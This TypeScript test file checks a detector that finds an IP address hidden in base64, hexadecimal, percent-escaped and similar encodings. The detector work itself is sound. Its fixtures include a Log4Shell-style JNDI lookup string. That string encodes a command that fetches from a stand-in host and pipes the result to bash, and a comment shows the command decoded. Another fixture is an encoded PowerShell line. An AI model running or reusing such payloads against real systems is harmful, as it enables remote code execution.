import assert from 'node:assert';
import { test } from 'node:test';
import { findEncoded } from './encoded-text.ts';

const address = /(?<!\d)192\.0\.2\.66(?!\d)/g;
const find = (text: string): string[] =>
  findEncoded(text, address, address).map(({ from, to }) => text.slice(from, to));

test('a word is found as it stands, and no other that begins with it', () => {
  assert.deepStrictEqual(find('from 192.0.2.66 to 192.0.2.66:80'), ['192.0.2.66', '192.0.2.66']);
  assert.deepStrictEqual(find('192.0.2.667 1192.0.2.66'), []);
});

// Each written by the program named, not by ours.
for (const [what, text, hidden] of [
  // printf '(curl -s 203.0.113.7:5874/192.0.2.66:80||wget -q)|bash' | base64 -w0
  [
    'base64 behind a path, as Log4Shell is sent',
    'jndi:ldap://203.0.113.7:1389/Basic/Command/Base64/KGN1cmwgLXMgMjAzLjAuMTEzLjc6NTg3NC8xOTIuMC4yLjY2OjgwfHx3Z2V0IC1xKXxiYXNo',
    // The address is bytes 26 to 35: groups 8 to 11 of three bytes, of four letters each.
    'NC8xOTIuMC4yLjY2',
  ],
  // printf 'x192.0.2.66' | base64; printf 'xx192.0.2.66' | base64
  ['base64 from its second place', 'eDE5Mi4wLjIuNjY=', 'eDE5Mi4wLjIuNjY='],
  ['base64 from its third place', 'eHgxOTIuMC4yLjY2', 'eHgxOTIuMC4yLjY2'],
  // printf 'ping 192.0.2.66' | iconv -t UTF-16LE | base64 -w0
  [
    'base64 of UTF-16',
    'powershell -enc cABpAG4AZwAgADEAOQAyAC4AMAAuADIALgA2ADYA',
    // Bytes 10 to 28: groups 3 to 9.
    'ADEAOQAyAC4AMAAuADIALgA2ADYA',
  ],
  // printf 'a192.0.2.66b' | xxd -p
  ['hexadecimal', '0x613139322e302e322e363662', '3139322e302e322e3636'],
  ['hexadecimal of an odd beginning', 'f20 3139322e302e322e363620', '3139322e302e322e3636'],
  ['percent escapes', 'GET /?host=%31%39%32.0.2%2E66&x=1', '%31%39%32.0.2%2E66'],
  ['backslash escapes', String.raw`echo -e "\x31\x39\x32.0.2.66"`, String.raw`\x31\x39\x32.0.2.66`],
  ['numbers of XML', '<a href="&#49;92&#x2e;0.2.66">', '&#49;92&#x2e;0.2.66'],
  // printf '192.0.2.66' | base64 | tr -d '\n' | sed 's/=/%3d/g', then the first letter escaped
  ['base64 in percent escapes', 'q=%4dTkyLjAuMi42Ng%3d%3d&', '%4dTkyLjAuMi42Ng%3d%3d'],
] as const)
  test(`a word is found in ${what}`, () => {
    assert.deepStrictEqual(find(text), [hidden]);
  });

test('long noise is gone through in a time in proportion', () => {
  const noise = (bytes: number): string => Buffer.alloc(bytes, 'QUJD%41').toString();
  const cost = (text: string): number => {
    const began = process.cpuUsage();
    assert.deepStrictEqual(find(text), []);
    const { user, system } = process.cpuUsage(began);
    return user + system;
  };
  cost(noise(20_000));
  const [one, ten] = [cost(noise(50_000)), cost(noise(500_000))];
  assert.ok(ten < 60 * one, `${one} µs, and ${ten} µs for ten times as much`);
});
